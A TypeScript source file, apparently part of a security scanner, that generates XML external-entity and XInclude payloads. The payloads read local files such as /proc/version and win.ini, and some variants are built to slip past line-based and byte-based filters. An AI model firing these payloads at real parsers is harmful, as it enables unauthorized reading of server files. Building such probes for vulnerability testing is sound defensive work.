import { withLeaves, type XmlLeaf } from '../../engine/requests/xml-leaves';

/** How a document asks its parser for a file: in its type, and where its text stands. */
export type Request = { subset: string; content: string };
export type Attack = (address: string) => Request;

const PROLOG = /^\uFEFF?\s*(?:<\?xml[^>]*\?>)?\s*/;
const DOCTYPE = /<!DOCTYPE[^[>]*(?:\[[^\]]*\]\s*)?>/i;
const ROOT = /<([\p{L}_][\p{L}\p{N}_.:-]*)/u;
const INCLUSION = 'http://www.w3.org/2001/XInclude';

/** Spelled over several lines, which filters by lines do not read. */
const general: Attack = (address) => ({
  subset: `\n<!ENTITY x\n SYSTEM "${address}">\n`,
  content: '&x;',
});
const byPublicName: Attack = (address) => ({
  subset: `\n<!ENTITY x\n PUBLIC "x" "${address}">\n`,
  content: '&x;',
});
const byParameter: Attack = (address) => ({
  subset: `\n<!ENTITY % p "<!ENTITY x SYSTEM '${address}'>">\n%p;\n`,
  content: '&x;',
});
const inclusion: Attack = (address) => ({
  subset: '',
  content: `<xi:include xmlns:xi="${INCLUSION}" href="${address}" parse="text"/>`,
});

/** A file that a parser is asked for: `part` is another file of the system, of which nobody may write either. */
export type Target = { address: string; content: RegExp };
const VERSION = /\bLinux version \d+\.\d/;
const WIN_INI = /; for 16-bit app support/;

/** Parsers only read. These files are written by the kernel itself, or belong to Windows. */
const KERNEL: Target = { address: 'file:///proc/version', content: VERSION };
const KERNEL_PATH: Target = { address: '/proc/version', content: VERSION };
const WINDOWS: Target = { address: 'file:///c:/windows/win.ini', content: WIN_INI };
export const FILESYSTEMS: Target = {
  address: 'file:///proc/filesystems',
  content: /\bnodev\s{1,8}(?:sysfs|proc|tmpfs|cgroup2?|bdev)\b/,
};

export type Try = { attack: Attack; target: Target; isWide: boolean };
const narrow = (attack: Attack, target: Target): Try => ({ attack, target, isWide: false });

/** The likeliest first; `isWide`: two bytes a letter, which filters by bytes do not read. */
export const TRIES: readonly Try[] = [
  narrow(general, KERNEL),
  narrow(byPublicName, KERNEL_PATH),
  narrow(inclusion, KERNEL),
  narrow(general, WINDOWS),
  narrow(byParameter, KERNEL),
  { attack: general, target: KERNEL, isWide: true },
];

export const externalEntity = general;

/** Two entities whose texts stand side by side only where both were replaced. */
export function joinedEntities(mark: string): Request {
  const middle = Math.ceil(mark.length / 2);
  return {
    subset: `\n<!ENTITY a "${mark.slice(0, middle)}">\n<!ENTITY b "${mark.slice(middle)}">\n`,
    content: '&a;&b;',
  };
}

/** The document with another type, and with `content` in the leaves. */
export function documentWith(text: string, leaves: readonly XmlLeaf[], { subset, content }: Request): string {
  const filled = withLeaves(text, new Map(leaves.map((leaf) => [leaf, content])));
  if (subset === '') return filled;
  const [prolog = ''] = PROLOG.exec(filled) ?? [];
  const rest = filled.slice(prolog.length).replace(DOCTYPE, '');
  return `${prolog}<!DOCTYPE ${ROOT.exec(rest)?.[1] ?? 'root'} [${subset}]>\n${rest}`;
}

/** The same document declared as UTF-16. */
export const declaredWide = (text: string): string =>
  PROLOG.exec(text)?.[0].includes('<?xml')
    ? text.replace(/encoding=(["'])[^"']*\1/, 'encoding="UTF-16"')
    : `<?xml version="1.0" encoding="UTF-16"?>\n${text}`;
